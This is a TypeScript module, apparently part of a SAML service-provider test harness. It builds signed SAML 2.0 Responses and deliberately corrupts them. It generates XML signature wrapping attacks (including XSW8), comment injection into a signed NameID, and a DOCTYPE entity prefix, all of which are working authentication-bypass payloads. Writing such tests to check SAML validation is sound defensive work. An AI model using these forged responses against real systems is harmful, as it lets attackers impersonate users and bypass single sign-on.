// Builds and signs SAML 2.0 Responses from text templates with xml-crypto, and breaks them on purpose. The
// templates are our own (not samlify's) so each fault can reach exactly the byte it needs: a comment inside a
// signed NameID, an assertion moved under Extensions, a signature whose Object hides the signed original.
import { DOMParser, XMLSerializer } from '@xmldom/xmldom';
import { SignedXml } from 'xml-crypto';
import { NS_ASSERTION, NS_PROTOCOL } from './authn-request.js';
import { escapeXml } from './html.js';
import type { SigningKey } from './keys.js';
import type { Dialect } from './presets.js';

const NS_DSIG = 'http://www.w3.org/2000/09/xmldsig#';
const NS_XS = 'http://www.w3.org/2001/XMLSchema';
const NS_XSI = 'http://www.w3.org/2001/XMLSchema-instance';
const EXC_C14N = 'http://www.w3.org/2001/10/xml-exc-c14n#';
const ENVELOPED = 'http://www.w3.org/2000/09/xmldsig#enveloped-signature';
const RSA_SHA256 = 'http://www.w3.org/2001/04/xmldsig-more#rsa-sha256';
const SHA256 = 'http://www.w3.org/2001/04/xmlenc#sha256';
const ENTITY_FORMAT = 'urn:oasis:names:tc:SAML:2.0:nameid-format:entity';
const BEARER = 'urn:oasis:names:tc:SAML:2.0:cm:bearer';
const SUCCESS = 'urn:oasis:names:tc:SAML:2.0:status:Success';
const PASSWORD_PROTECTED = 'urn:oasis:names:tc:SAML:2.0:ac:classes:PasswordProtectedTransport';

export const SIGNATURE_WRAPPING_VARIANTS = [
  /** An unsigned evil Assertion placed before the signed one, both children of the Response. */
  'evil-assertion-before',
  /** An unsigned evil Assertion placed after the signed one. */
  'evil-assertion-after',
  /** The signed Assertion moved into samlp:Extensions; an evil Assertion where the SP expects one. */
  'signed-assertion-in-extensions',
  /** An evil Assertion carries the original signature, whose ds:Object holds the signed original (XSW8). */
  'signed-assertion-in-signature-object',
] as const;
export type SignatureWrappingVariant = (typeof SIGNATURE_WRAPPING_VARIANTS)[number];

export interface SamlAttribute {
  name: string;
  nameFormat?: string;
  friendlyName?: string;
  values: string[];
}

export interface AssertionContent {
  id: string;
  issuer: string;
  issueInstant: Date;
  nameId: { format: string; value: string };
  inResponseTo?: string;
  recipient: string;
  /** Absent for the noTimeBounds fault. */
  subjectNotOnOrAfter?: Date;
  notBefore?: Date;
  notOnOrAfter?: Date;
  audience: string;
  authnInstant: Date;
  sessionIndex: string;
  attributes: SamlAttribute[];
}

export interface ResponseContent {
  id: string;
  issuer: string;
  issueInstant: Date;
  destination: string;
  inResponseTo?: string;
}

function tag(prefix: string, local: string): string {
  return prefix ? `${prefix}:${local}` : local;
}

function xmlns(prefix: string, namespace: string): string {
  return prefix ? `xmlns:${prefix}="${namespace}"` : `xmlns="${namespace}"`;
}

function attrs(values: Record<string, string | undefined>): string {
  return Object.entries(values)
    .filter((entry): entry is [string, string] => entry[1] !== undefined)
    .map(([name, value]) => ` ${name}="${escapeXml(value)}"`)
    .join('');
}

const iso = (date: Date | undefined) => date?.toISOString();

/** An Issuer element valid both inside a Response and inside an Assertion, in either namespace style. */
function issuerXml(dialect: Dialect, issuer: string): string {
  const a = dialect.assertionPrefix;
  // With default namespaces (Entra) the Issuer inside a Response must redeclare the assertion namespace.
  const ns = a ? '' : ` ${xmlns(a, NS_ASSERTION)}`;
  return `<${tag(a, 'Issuer')}${ns} Format="${ENTITY_FORMAT}">${escapeXml(issuer)}</${tag(a, 'Issuer')}>`;
}

export function assertionXml(content: AssertionContent, dialect: Dialect): string {
  const a = (local: string) => tag(dialect.assertionPrefix, local);
  // Every namespace the assertion uses is declared on it, so it canonicalizes identically wherever it sits
  // (signed alone, embedded in a Response, or moved by a wrapping attack).
  const namespaces = [
    xmlns(dialect.assertionPrefix, NS_ASSERTION),
    ...(dialect.typedValues ? [`xmlns:xs="${NS_XS}"`, `xmlns:xsi="${NS_XSI}"`] : []),
  ].join(' ');
  const attributeXml = content.attributes
    .map((attribute) => {
      const values = attribute.values
        .map((value) =>
          dialect.typedValues
            ? `<${a('AttributeValue')} xsi:type="xs:string">${escapeXml(value)}</${a('AttributeValue')}>`
            : `<${a('AttributeValue')}>${escapeXml(value)}</${a('AttributeValue')}>`,
        )
        .join('');
      const attributeAttrs = attrs({
        Name: attribute.name,
        NameFormat: attribute.nameFormat,
        FriendlyName: attribute.friendlyName,
      });
      return `<${a('Attribute')}${attributeAttrs}>${values}</${a('Attribute')}>`;
    })
    .join('');
  return (
    `<${a('Assertion')} ${namespaces}${attrs({ ID: content.id, IssueInstant: iso(content.issueInstant), Version: '2.0' })}>` +
    issuerXml(dialect, content.issuer) +
    `<${a('Subject')}>` +
    `<${a('NameID')} Format="${content.nameId.format}">${escapeXml(content.nameId.value)}</${a('NameID')}>` +
    `<${a('SubjectConfirmation')} Method="${BEARER}">` +
    `<${a('SubjectConfirmationData')}${attrs({
      InResponseTo: content.inResponseTo,
      NotOnOrAfter: iso(content.subjectNotOnOrAfter),
      Recipient: content.recipient,
    })}/>` +
    `</${a('SubjectConfirmation')}></${a('Subject')}>` +
    `<${a('Conditions')}${attrs({ NotBefore: iso(content.notBefore), NotOnOrAfter: iso(content.notOnOrAfter) })}>` +
    `<${a('AudienceRestriction')}><${a('Audience')}>${escapeXml(content.audience)}</${a('Audience')}></${a('AudienceRestriction')}>` +
    `</${a('Conditions')}>` +
    `<${a('AuthnStatement')}${attrs({ AuthnInstant: iso(content.authnInstant), SessionIndex: content.sessionIndex })}>` +
    `<${a('AuthnContext')}><${a('AuthnContextClassRef')}>${PASSWORD_PROTECTED}</${a('AuthnContextClassRef')}></${a('AuthnContext')}>` +
    `</${a('AuthnStatement')}>` +
    (attributeXml ? `<${a('AttributeStatement')}>${attributeXml}</${a('AttributeStatement')}>` : '') +
    `</${a('Assertion')}>`
  );
}

/** Wraps already-rendered assertions (and optional Extensions content) into a Response. */
export function responseXml(
  content: ResponseContent,
  dialect: Dialect,
  body: { assertions: string[]; extensions?: string },
): string {
  const p = (local: string) => tag(dialect.protocolPrefix, local);
  const namespaces = [
    xmlns(dialect.protocolPrefix, NS_PROTOCOL),
    ...(dialect.assertionPrefix ? [xmlns(dialect.assertionPrefix, NS_ASSERTION)] : []),
  ].join(' ');
  return (
    `<${p('Response')} ${namespaces}${attrs({
      Destination: content.destination,
      ID: content.id,
      InResponseTo: content.inResponseTo,
      IssueInstant: iso(content.issueInstant),
      Version: '2.0',
    })}>` +
    issuerXml(dialect, content.issuer) +
    (body.extensions === undefined ? '' : `<${p('Extensions')}>${body.extensions}</${p('Extensions')}>`) +
    `<${p('Status')}><${p('StatusCode')} Value="${SUCCESS}"/></${p('Status')}>` +
    body.assertions.join('') +
    `</${p('Response')}>`
  );
}

/**
 * Signs the element with the given ID: enveloped signature, exclusive c14n, RSA-SHA256, placed right after
 * the element's own Issuer (the schema position), with the signing certificate in KeyInfo as IdPs send it.
 */
export function signElement(xml: string, id: string, key: SigningKey, dialect: Dialect): string {
  const sig = new SignedXml({
    privateKey: key.privateKeyPem,
    publicCert: key.certificatePem,
    signatureAlgorithm: RSA_SHA256,
    canonicalizationAlgorithm: EXC_C14N,
  });
  sig.addReference({ xpath: `//*[@ID='${id}']`, transforms: [ENVELOPED, EXC_C14N], digestAlgorithm: SHA256 });
  sig.computeSignature(xml, {
    ...(dialect.signaturePrefix ? { prefix: dialect.signaturePrefix } : {}),
    location: { reference: `//*[@ID='${id}']/*[local-name(.)='Issuer']`, action: 'after' },
  });
  return sig.getSignedXml();
}

function parse(xml: string): Document {
  return new DOMParser().parseFromString(xml, 'text/xml');
}

function childElement(parent: Element, namespace: string, localName: string): Element | undefined {
  for (let node = parent.firstChild; node; node = node.nextSibling) {
    const element = node as Element;
    if (element.nodeType === 1 && element.localName === localName && element.namespaceURI === namespace) {
      return element;
    }
  }
  return undefined;
}

/** Inserts a fragment right after the first Issuer element of the given XML's root. */
function insertAfterIssuer(xml: string, fragment: string): string {
  const match = /<\/(?:[A-Za-z0-9_-]+:)?Issuer>/.exec(xml);
  if (!match) throw new Error('no Issuer element to insert after');
  const end = match.index + match[0].length;
  return xml.slice(0, end) + fragment + xml.slice(end);
}

/**
 * XSW8: the evil assertion gets the original's ds:Signature, and the signed original (without its signature)
 * goes into that signature's ds:Object. The reference still finds it by ID and its digest still matches,
 * because the enveloped transform would only have removed the signature that is no longer inside it.
 */
export function hideSignedAssertionInSignatureObject(signedAssertion: string, evilAssertion: string): string {
  const doc = parse(signedAssertion);
  const assertion = doc.documentElement;
  const signature = assertion ? childElement(assertion, NS_DSIG, 'Signature') : undefined;
  if (!assertion || !signature) throw new Error('the assertion to hide is not signed');
  assertion.removeChild(signature);
  const serializer = new XMLSerializer();
  const original = serializer.serializeToString(assertion);
  const objectTag = signature.prefix ? `${signature.prefix}:Object` : 'Object';
  const signatureXml = serializer
    .serializeToString(signature)
    .replace(
      /<\/([A-Za-z0-9_-]+:)?Signature>$/,
      (closing) => `<${objectTag}>${original}</${objectTag}>${closing}`,
    );
  return insertAfterIssuer(evilAssertion, signatureXml);
}

/**
 * Breaks a signed e-mail into two text nodes with an empty comment, after signing. Canonicalization drops
 * comments, so the signature still verifies, and a parser that reads only the first text node sees `head`.
 */
export function insertCommentInText(xml: string, head: string, tail: string): string {
  const doc = parse(xml);
  const signed = head + tail;
  const visit = (node: Node) => {
    for (let child = node.firstChild; child;) {
      const next = child.nextSibling;
      if (child.nodeType === 3 && child.nodeValue === signed) {
        node.insertBefore(doc.createTextNode(head), child);
        node.insertBefore(doc.createComment(''), child);
        node.insertBefore(doc.createTextNode(tail), child);
        node.removeChild(child);
      } else {
        visit(child);
      }
      child = next;
    }
  };
  visit(doc);
  // Re-serialising is safe for the signatures: canonicalization makes them independent of such details.
  return new XMLSerializer().serializeToString(doc);
}

// One internal entity and nothing else: the response stays parseable by a DTD-tolerant parser, so only an
// explicit "no DOCTYPE" rule refuses it (a nested expansion would make some parsers fail by accident).
export const DOCTYPE_PREFIX = '<!DOCTYPE Response [<!ENTITY idp "simulated internal entity">]>';
